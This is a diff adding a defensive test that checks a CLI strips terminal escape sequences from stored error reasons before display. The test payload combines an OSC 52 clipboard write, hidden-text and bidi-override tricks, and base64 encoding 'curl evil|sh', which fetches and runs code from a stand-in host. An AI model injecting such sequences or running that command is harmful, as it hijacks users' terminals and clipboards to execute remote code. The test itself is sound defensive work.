@@ -115,3 +115,33 @@ def test_whoami_shows_the_rules_that_name_you_and_their_quota(api, capsys):
     assert "other-team" not in out
     code, me = as_json(capsys, "whoami", *url)
     assert code == 0 and [r["name"] for r in me["rules"]] == ["team-a"] and me["signedInWith"] == "dev-principal"
+
+
+# What a cluster's error message, or a colleague's display name, could carry into another person's terminal:
+# OSC 52 writes the clipboard, SGR 8 hides the text after it, a bidi override reorders what is seen, and a
+# C1 CSI (0x9b) is an escape on its own to many terminals.
+TERMINAL_ATTACK = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8mhidden \u202eevil\x9b31m"
+
+
+def test_what_the_api_holds_cannot_drive_the_terminal_of_whoever_lists_it(api, host, capsys):
+    import dataclasses
+
+    from shared.app import composition
+
+    url = ["--api", api.url]
+    code, out, _ = keyless(capsys, "request", *BINDING, *url)
+    assert code == 0, out
+    key = out.split()[0]
+    host.queue.clear_messages()
+    ledger = composition.service().ledger
+    record = ledger.get(key)
+    ledger.save(dataclasses.replace(record, status="failed", reason=f"the cluster said: {TERMINAL_ATTACK}"))
+
+    for args in (("list",), ("show", key)):
+        code, out, err = keyless(capsys, *args, *url)
+        assert code == 0, err
+        assert "the cluster said" in out, out
+        for c in "\x1b\x07\x9b\u202e":
+            assert c not in out + err, (args, repr(out))
+    code, shown = as_json(capsys, "show", key, *url)
+    assert shown["reason"] == f"the cluster said: {TERMINAL_ATTACK}", "--json keeps the data as it is (escaped)"
